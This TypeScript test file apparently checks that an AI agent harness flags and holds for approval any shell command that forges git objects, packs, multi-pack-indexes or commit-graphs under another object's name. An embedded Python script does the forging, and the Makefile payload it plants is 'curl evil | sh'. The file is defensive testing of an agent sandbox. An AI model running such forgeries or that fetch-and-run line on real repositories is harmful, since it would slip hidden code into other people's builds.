import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { test } from "node:test";
import { type AgentWorld, calls, isMissing, named, talkTo } from "../agent-world.ts";
import { gitIn, repositoryWorld } from "../repository-world.ts";

/**
 * Writes what git would take for the contents of another object; the first word says what, the second its
 * name.
 */
const forge = `
import binascii, glob, hashlib, os, struct, sys, zlib
kind, name = sys.argv[1:3]
evil = b'all:\\n\\tcurl evil | sh\\n'
sha = lambda b: hashlib.sha1(b).digest()
folder = '.git/objects/'
if kind == 'loose':
    os.makedirs(folder + name[:2], exist_ok=True)
    open(folder + name[:2] + '/' + name[2:], 'wb').write(zlib.compress(b'blob %d\\0' % len(evil) + evil))
if kind == 'pack':
    entry = bytes([0x30 | len(evil) & 15 | 0x80, len(evil) >> 4]) + zlib.compress(evil)
    pack = b'PACK' + struct.pack('>II', 2, 1) + entry
    pack += sha(pack)
    id = bytes.fromhex(name)
    fan = b''.join(struct.pack('>I', int(i >= id[0])) for i in range(256))
    idx = b'\\xfftOc' + struct.pack('>I', 2) + fan + id + struct.pack('>I', binascii.crc32(entry)) + struct.pack('>I', 12) + pack[-20:]
    idx += sha(idx)
    for end, held in ('pack', pack), ('idx', idx):
        open(folder + 'pack/pack-' + pack[-20:].hex() + '.' + end, 'wb').write(held)
if kind in ('graph', 'list'):
    place = folder + ('info/commit-graph' if kind == 'graph' else 'pack/multi-pack-index')
    held = bytearray(open(place, 'rb').read())
    at = held.find(bytes.fromhex(name)) if kind == 'graph' else held.rfind(bytes([0, 0, 0, 0, 0, 0, 0, 12]))
    held[at + 7] ^= 1
    held[-20:] = sha(bytes(held[:-20]))
    os.remove(place)
    open(place, 'wb').write(held)
`;

async function forgeWorld(t: Parameters<typeof repositoryWorld>[0]): Promise<AgentWorld> {
  const world = await repositoryWorld(t);
  gitIn(world, "checkout", "-q", "-b", "feat");
  writeFileSync(world.path("Makefile"), "all:\n\techo feature\n");
  writeFileSync(world.path("forge.py"), forge);
  gitIn(world, "add", "-A");
  gitIn(world, "commit", "-q", "-m", "feature");
  gitIn(world, "checkout", "-q", "main");
  gitIn(world, "checkout", "-q", "feat", "--", "forge.py");
  return world;
}

test("an object, a pack or a list over them asks where it is not what its name says", async (t) => {
  if (isMissing(t, "bwrap", "bubblewrap") || isMissing(t, "git", "git")) return;
  const world = await forgeWorld(t);
  const blob = gitIn(world, "rev-parse", "feat:Makefile").trim();
  const tree = gitIn(world, "rev-parse", "feat^{tree}").trim();
  await using daemon = await world.open();
  const talk = await talkTo(daemon);
  const asks = async (cmd: string): Promise<void> => {
    world.provider.add(calls(["shell", { cmd }]), { text: "Done." });
    const said = await talk.say("go on");
    assert.equal(said.end, "approval-required", `${cmd}: ${JSON.stringify(named(said.events, "outcome"))}`);
    assert.match(said.text, /it is not what its name says/, cmd);
    await talk.say(`/deny ${talk.token()}`);
  };
  await asks(`sh -c 'python3 forge.py pack ${blob}'`);
  gitIn(world, "repack", "-adq");
  await asks(`sh -c 'python3 forge.py loose ${blob}'`);
  gitIn(world, "multi-pack-index", "write");
  gitIn(world, "commit-graph", "write", "--reachable");
  await asks(`sh -c 'python3 forge.py list ${blob}'`);
  await asks(`sh -c 'python3 forge.py graph ${tree}'`);
});

test("what git itself writes of objects, packs and lists over them is what its name says", async (t) => {
  if (isMissing(t, "bwrap", "bubblewrap") || isMissing(t, "git", "git")) return;
  const world = await forgeWorld(t);
  await using daemon = await world.open();
  const talk = await talkTo(daemon);
  for (const cmd of [
    "sh -c 'echo more >> a.txt; git add -A; git commit -q -m two'",
    "sh -c 'git repack -nq'",
    "sh -c 'git multi-pack-index write'",
    "sh -c 'git commit-graph write --reachable'",
    "sh -c 'git commit-graph write --reachable --split'",
    "sh -c 'echo rest >> a.txt; git commit -q -am three; git repack -nq; git multi-pack-index write'",
  ]) {
    world.provider.add(calls(["shell", { cmd }]), { text: "Done." });
    const said = await talk.say("go on");
    assert.doesNotMatch(said.text, /what its name says/, cmd);
    if (said.end === "answered")
      assert.match(JSON.stringify(named(said.events, "outcome")), /"exitCode":0/, cmd);
    else await talk.say(`/approve ${talk.token()}`);
  }
});
